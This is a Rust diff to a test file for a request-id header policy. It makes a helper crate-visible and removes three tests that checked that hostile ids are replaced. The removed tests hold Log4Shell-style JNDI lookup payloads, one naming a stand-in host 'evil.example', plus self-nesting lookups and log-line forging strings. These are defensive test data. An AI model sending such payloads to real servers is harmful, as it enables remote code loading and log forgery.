@@ -24,7 +24,7 @@ fn accepting() -> RequestIdPolicy {
 }
 
 /// Sends these lines to a server that accepts ids, and sees another id in all places.
-async fn is_replaced(lines: &[&[u8]]) {
+pub(crate) async fn is_replaced(lines: &[&[u8]]) {
     for version in VERSIONS {
         let response = send(app(accepting()), version, HEADER, lines).await;
         let id = the_id(&response);
@@ -78,42 +78,6 @@ async fn white_space_and_quotes_are_replaced_and_not_trimmed() {
     for id in [" before", "after ", "\ttab"] {
         let response = send(app(accepting()), Version::HTTP_2, HEADER, &[id.as_bytes()]).await;
         assert!(is_new(the_id(&response).as_str()), "{id:?}");
-    }
-}
-
-// F16: a look-up that a logger ran on what the context of its thread held
-#[tokio::test]
-async fn cve_2021_45046_an_id_that_is_a_look_up_is_replaced() {
-    for id in [
-        "${jndi:ldap://127.0.0.1:1389/a}",
-        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
-        "${ctx:requestId}",
-        "7-${env:HOME}",
-    ] {
-        is_replaced(&[id.as_bytes()]).await;
-    }
-}
-
-// F16: the same, nested in itself without an end
-#[tokio::test]
-async fn cve_2021_45105_an_id_that_looks_itself_up_is_replaced() {
-    is_replaced(&[b"${${::-${::-$${::-j}}}}"]).await;
-    is_replaced(&["${ctx:id}".repeat(10).as_bytes()]).await;
-}
-
-// F16: what a client sent began a line of its own in the log of an error
-#[tokio::test]
-async fn ghsa_674p_xv2x_rf3g_an_id_that_forges_a_line_of_a_log_is_replaced() {
-    for id in [
-        "7%0d%0aERROR",
-        r"7\r\nERROR",
-        "7 level=error user=admin",
-        "7\u{85}ERROR",
-        "7\u{2028}ERROR",
-        "7|ERROR",
-        "%1b[2J",
-    ] {
-        is_replaced(&[id.as_bytes()]).await;
     }
 }
 
